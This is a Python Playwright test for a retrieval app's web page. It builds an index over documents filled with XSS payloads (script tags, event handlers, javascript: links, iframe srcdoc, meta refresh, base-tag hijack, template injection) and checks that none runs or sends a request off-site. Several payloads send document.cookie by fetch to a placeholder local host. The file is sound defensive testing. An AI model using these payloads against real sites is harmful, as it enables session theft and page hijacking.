"""The page in a browser over documents whose every word is an attack: nothing of them runs or leaves."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from rankrag.index import build
from serving import live, make_app
from test_server_page import BROWSER, ask, browser, visit  # noqa: F401 - a fixture

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = [
    pytest.mark.slow,
    pytest.mark.filterwarnings("default"),
    pytest.mark.skipif(BROWSER is None, reason="needs Chromium (Debian: apt install chromium)"),
]

RUN = "fetch('http://127.0.0.1:9/'+document.cookie);window.owned=1"
ATTACKS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN!r}>",
    f"<svg/onload={RUN!r}>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"</textarea></style></title><script>{RUN}</script>",
    f'"><details open ontoggle="{RUN}">',
    f"'-alert(1)-'${{{RUN}}}`",
    f"[x](javascript:{RUN})",
    '<a href="javascript:window.owned=1" autofocus onfocus="window.owned=1">x</a>',
    "<base href='http://127.0.0.1:9/'><link rel=stylesheet href=/x.css><form action=/evil><button>",
    '<meta http-equiv=refresh content="0;url=http://127.0.0.1:9/">',
    "&lt;script&gt;window.owned=1&lt;/script&gt;",
    "{{constructor.constructor('window.owned=1')()}}",
    "\u202e\u0000<b>bold</b>",
)


@pytest.fixture
def url(tmp_path: Path) -> Iterator[str]:
    """A server over records and files with an attack in every field."""
    documents = tmp_path / "documents"
    documents.mkdir()
    rows = [
        {
            "_id": f"{n} {evil}",
            "title": evil,
            "text": f"The wolf{n} has {n} legs. {evil}",
            "url": f"javascript:{RUN}",
            evil: evil,
        }
        for n, evil in enumerate(ATTACKS)
    ]
    (documents / "records.jsonl").write_text("\n".join(map(json.dumps, rows)))
    for n, evil in enumerate(ATTACKS):
        name = evil.replace("/", "").replace("\0", "")[:80]
        (documents / f"{name}{n}.md").write_text(f"# {evil}\n\n## {evil}\n\nThe fox{n} has {n} ears. {evil}")
    build([str(documents)], tmp_path / "index")
    with live(make_app(tmp_path / "index")) as found:
        yield found


MADE = "a[href^=javascript], iframe, base, details[ontoggle], img[src=x], meta[http-equiv=refresh]"
"""Elements that the attacks would make."""


def assert_harmless(page: Page, title: str) -> None:
    """Nothing of a document has run, or is an element of the page."""
    assert page.title() == title
    assert page.evaluate("window.owned") is None
    assert page.locator(MADE).count() == 0


def test_nothing_of_a_hostile_corpus_runs_or_leaves(browser: Browser, url: str) -> None:  # noqa: F811
    faults: list[str] = []
    elsewhere: list[str] = []
    page = visit(browser, url, faults)
    page.on("dialog", lambda said: faults.append(said.message))
    page.on("request", lambda sent: elsewhere.append(sent.url) if not sent.url.startswith(url) else None)
    title = page.title()
    for n in range(len(ATTACKS)):
        page.goto(url)  # a question of its own, not one of a conversation
        ask(page, f"How many legs has the wolf{n}, how many ears the fox{n}?")
        page.get_by_test_id("answer-text").filter(has_text=f"{n} has {n}").wait_for()
        assert page.get_by_test_id("passage").count() >= 2
        page.get_by_test_id("citation").first.click()
        page.get_by_test_id("source-panel").wait_for()
        assert_harmless(page, title)
        page.keyboard.press("Escape")
    page.get_by_test_id("documents-button").click()
    page.get_by_test_id("document").first.wait_for()
    assert_harmless(page, title)
    assert elsewhere == []
    assert faults == []
    page.close()
